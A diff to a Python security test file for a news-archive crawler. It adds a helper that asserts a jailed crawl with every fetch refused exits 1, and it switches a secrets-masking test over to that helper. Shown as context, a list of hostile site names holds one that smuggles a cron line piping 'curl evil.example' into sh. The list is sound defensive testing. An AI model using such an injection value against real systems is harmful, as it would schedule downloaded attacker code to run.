@@ -6,6 +6,8 @@ rules for embedded IPv4 forms and schemes. Counts go to test-artifacts/faults.md
 from __future__ import annotations
 
 import os
+import subprocess
+import sys
 import time
 import unicodedata
 from pathlib import Path
@@ -21,7 +23,8 @@ from archive.schedule import lock_path, systemd_units
 from archive.sites import Site, load_sites
 from tests.faults.report import record
 from tests.fixtures import run_cli
-from tests.support.securityjail import Server, crawl, jail_env, story
+from tests.support import ROOT
+from tests.support.securityjail import Server, jail_env, story
 
 EVIL_NAMES = [
     "harbor\n* * * * * curl evil.example | sh",
@@ -32,6 +35,23 @@ EVIL_NAMES = [
     ".",
     "",
 ]
+
+
+def crawl_refused(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
+    """A crawl in the jail whose every fetch is refused: it archives nothing, so it exits 1
+    (the exit-code contract of `newsarchive crawl`), saying so."""
+    proc = subprocess.run(
+        [sys.executable, "-m", "archive", "crawl", *args],
+        capture_output=True,
+        text=True,
+        timeout=240,
+        cwd=ROOT,
+        env=env,
+        check=False,
+    )
+    assert proc.returncode == 1, f"crawl exited {proc.returncode}:\n{proc.stderr[-3000:]}"
+    assert "Nothing was archived" in proc.stderr
+    return proc
 
 
 @pytest.mark.parametrize("name", EVIL_NAMES)
@@ -158,8 +178,7 @@ def test_secrets_are_masked_in_the_crawl_log(tmp_path: Path) -> None:
         env = jail_env(tmp_path / "jail")
         data = tmp_path / "data"
         settings = [a for k, v in SECRETS.items() for a in ("-s", f"{k}={v}")]
-        proc = crawl(env, f"http://127.0.0.1:{web.port}/", "--data", str(data), *settings)
-        assert proc is not None
+        proc = crawl_refused(env, f"http://127.0.0.1:{web.port}/", "--data", str(data), *settings)
         log = (data / "logs" / "crawl.log").read_text(errors="replace") + proc.stderr
         bad = run_cli(
             "crawl",
